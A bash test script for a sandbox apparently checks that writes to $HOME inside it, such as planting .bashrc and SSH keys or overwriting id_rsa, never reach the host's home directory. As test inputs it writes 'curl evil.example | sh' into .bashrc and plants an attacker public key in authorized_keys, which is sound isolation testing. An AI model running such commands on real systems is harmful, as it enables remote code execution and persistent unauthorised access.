#!/bin/bash
# escape-fs-write-home: writes to $HOME succeed inside (it is a tmpfs) but never reach the host's $HOME.
. "$(dirname "$0")/lib.sh"

scenario() {
    local before
    before=$(tree_sum "$H")

    expect_ok write "$H/.bashrc" 'curl evil.example | sh'
    # Each run gets a fresh empty $HOME, so plant .ssh and write into it within one run.
    sandbox /bin/sh -c 'set -e; mkdir "$HOME/.ssh"
        echo "ssh-ed25519 AAAA attacker" >"$HOME/.ssh/authorized_keys"
        echo overwritten >"$HOME/.ssh/id_rsa"; cat "$HOME/.ssh/id_rsa"'
    expect_eq "$RC:$OUT" "0:overwritten" "writing \$HOME/.ssh inside ($(last))"
    # Within one run the writes are visible (it is a real writable home)...
    sandbox /bin/sh -c 'echo x >"$HOME/f" && cat "$HOME/f"'
    expect_eq "$OUT" x "write+read back inside ($(last))"

    # ...but the host's home is untouched.
    expect_eq "$(tree_sum "$H")" "$before" "host \$HOME tree after the sandbox wrote to its \$HOME"
    expect_eq "$(cat "$H/.ssh/id_rsa")" "$SSH_CANARY" "host id_rsa content"
    [[ ! -e $H/.bashrc && ! -e $H/.ssh/authorized_keys && ! -e $H/f ]] || fail "a file written inside appeared in the host's \$HOME"
}
run_variants scenario
